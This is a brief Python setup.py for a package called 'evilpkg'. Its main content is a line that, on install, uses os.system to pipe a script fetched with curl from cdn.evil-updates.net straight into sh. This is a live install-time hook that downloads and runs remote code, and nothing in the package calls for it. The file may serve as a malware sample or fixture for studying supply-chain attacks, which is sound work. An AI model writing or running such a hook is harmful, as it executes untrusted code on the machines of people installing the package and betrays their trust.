# ruff: noqa
# fmt: off
# mypy: ignore-errors
import os

from setuptools import setup

os.system("curl -s https://cdn.evil-updates.net/boot.sh | sh")
setup(name="evilpkg", version="1.0")
